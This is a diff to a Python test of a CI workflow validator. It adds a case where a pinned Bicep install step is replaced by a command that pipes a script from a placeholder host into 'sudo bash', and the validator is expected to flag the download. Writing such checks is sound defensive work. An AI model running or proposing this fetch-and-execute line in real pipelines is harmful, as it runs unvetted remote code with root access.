@@ -108,6 +108,11 @@ def test_a_wrong_azure_yaml_is_noticed(
         ("  contents: read\n\nconc", "  contents: write\n\nconc", "contents: read"),
         ("  azd provision --preview", "  azd provision", "provision --preview"),
         ("    timeout-minutes: 10\n", "", "timeout-minutes"),
+        (
+            "run: az bicep install --version v0.45.15",
+            "run: curl -sL https://install.example/bicep.sh | sudo bash",
+            "that it downloads",
+        ),
     ],
 )
 def test_a_wrong_workflow_is_noticed(old: str, new: str, said: str) -> None:
